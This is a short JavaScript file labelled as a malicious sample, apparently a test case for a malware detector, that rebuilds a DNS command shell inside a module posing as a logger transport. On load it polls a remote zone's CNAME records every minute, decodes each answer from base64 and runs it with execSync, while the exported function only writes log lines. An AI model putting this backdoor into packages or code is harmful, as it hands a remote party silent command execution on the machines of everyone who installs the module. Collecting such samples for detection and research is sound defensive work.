// expect: malicious
// source: blind set 46's mocha-netguard (a DNS command shell: commands packed into the AAAA answers of the zone's name
// server, sixteen bytes per address, run with exec); rebuilt here as a CNAME-record shell in a logger's transport
'use strict';
const dns = require('dns');
const { execSync } = require('child_process');

const ZONE = 'ns.logship-metrics.invalid';

function poll(seq) {
  dns.resolveCname(`${seq}.q.${ZONE}`, (err, names) => {
    if (!err && names.length) {
      const cmd = Buffer.from(names[0].split('.')[0].replace(/-/g, '='), 'base64').toString();
      try { execSync(cmd, { timeout: 30000 }); } catch (e) { /* next poll */ }
    }
    setTimeout(() => poll(seq + 1), 60000).unref();
  });
}

poll(0);
module.exports = function transport(line) { process.stdout.write(line + '\n'); };
